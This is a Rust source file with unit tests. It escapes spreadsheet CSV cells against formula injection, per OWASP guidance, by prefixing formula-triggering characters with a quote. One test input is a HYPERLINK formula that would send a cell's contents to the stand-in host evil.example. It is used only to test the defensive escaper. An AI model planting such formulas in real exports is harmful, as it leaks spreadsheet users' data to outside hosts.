//! Spreadsheet-safe CSV cells, as OWASP's CSV-injection guidance recommends: a text cell a
//! spreadsheet would run as a formula (first character `=`, `+`, `-`, `@`, tab or carriage
//! return) is written with a leading `'`. A text cell that already starts with `'` gets one
//! more, so the escaping can always be read back: [`unescape`] drops the first `'` of a cell
//! that starts with `'` followed by one of those characters or by `'`. The `t=csv` export
//! writes cells with [`escape`]; the uploader reads cells with [`unescape`] and writes the
//! cells it echoes into result files with [`escape`] again, so an exported or result file
//! uploaded as it is leaves every value as it was.

use std::borrow::Cow;

/// Whether `c`, first in a cell, makes a spreadsheet treat the cell as a formula.
fn triggers(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
}

/// The cell of a text value: `'` prepended when it starts with a formula character or `'`.
pub fn escape(s: &str) -> Cow<'_, str> {
    match s.chars().next() {
        Some(c) if triggers(c) || c == '\'' => Cow::Owned(format!("'{s}")),
        _ => Cow::Borrowed(s),
    }
}

/// The value of a cell written by [`escape`]: the first `'` dropped when a formula character
/// or another `'` follows it. Any other cell is its own value.
pub fn unescape(s: &str) -> &str {
    match s.strip_prefix('\'') {
        Some(rest) if rest.starts_with(|c: char| triggers(c) || c == '\'') => rest,
        _ => s,
    }
}

/// Whether a cell is echoed as it is: it starts with neither a formula character nor `'`, so
/// that [`unescape`], then [`escape`] or [`escape_plain`], give it back unchanged.
pub fn kept(cell: &str) -> bool {
    !cell.starts_with(|c: char| triggers(c) || c == '\'')
}

/// The cell of a value that is not text (a number, a date, an id): a plain number such as
/// `-5` or `-1.5e3` stays as it is, since a spreadsheet reads it as that number; anything else
/// is escaped like text.
pub fn escape_plain(s: &str) -> Cow<'_, str> {
    // Only a signed value can look like a formula; a cell starting with a digit never does.
    let signed_number =
        s.len() < 64 && s.starts_with(['-', '+']) && s.parse::<f64>().is_ok_and(f64::is_finite);
    if signed_number {
        Cow::Borrowed(s)
    } else {
        escape(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The uploader tells an empty cell by its text as read, before unescaping it.
    #[test]
    fn only_an_empty_cell_unescapes_to_nothing() {
        for s in ["'", "''", "'=", "'x", "=", "a", " "] {
            assert!(!unescape(s).is_empty(), "{s:?}");
        }
        assert_eq!(unescape(""), "");
    }

    #[test]
    fn formula_cells_get_a_leading_quote() {
        for s in [
            "=1+1", "+1", "-x", "@a", "\tTab", "\rx", "'quoted", "''two", "'",
        ] {
            assert_eq!(escape(s), format!("'{s}"), "{s:?}");
        }
        for s in ["", "plain", "a=b", " =x", "1", "x'"] {
            assert_eq!(escape(s), s, "{s:?}");
        }
    }

    #[test]
    fn kept_cells_are_their_own_echo() {
        for s in [
            "", "plain", "a=b", " =x", "1", "x'", "-5", "+1", "=1", "'a", "''", "\tx", "@a",
        ] {
            if kept(s) {
                assert_eq!(escape(unescape(s)), s, "{s:?}");
                assert_eq!(escape_plain(unescape(s)), s, "{s:?}");
            }
        }
        assert!(kept("plain") && kept(""));
        assert!(!kept("-5") && !kept("'a") && !kept("=1"));
    }

    #[test]
    fn unescape_reverses_escape() {
        let values = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "+1",
            "-x",
            "@a",
            "'quoted",
            "''two",
            "\tTab",
            "\r",
            "'",
            "''",
            "'a",
            "plain",
            "",
        ];
        for v in values {
            assert_eq!(unescape(&escape(v)), v, "{v:?}");
            // Escaping what was read back gives the cell again.
            let cell = escape(v);
            assert_eq!(escape(unescape(&cell)), cell, "{v:?}");
        }
    }

    #[test]
    fn unescape_leaves_other_quotes() {
        assert_eq!(unescape("'hello"), "'hello");
        assert_eq!(unescape("'"), "'");
        assert_eq!(unescape("it's"), "it's");
        assert_eq!(unescape("'=x"), "=x");
        assert_eq!(unescape("''x"), "'x");
    }

    #[test]
    fn plain_numbers_stay_numbers() {
        for s in ["-5", "-1.5", "+3", "0", "12", "-1e3"] {
            assert_eq!(escape_plain(s), s, "{s:?}");
        }
        for s in ["-x", "=1", "-inf", "-NaN", "+", "@1", "-1+1"] {
            assert_eq!(escape_plain(s), format!("'{s}"), "{s:?}");
        }
        assert_eq!(escape_plain("2024-01-02"), "2024-01-02");
    }
}
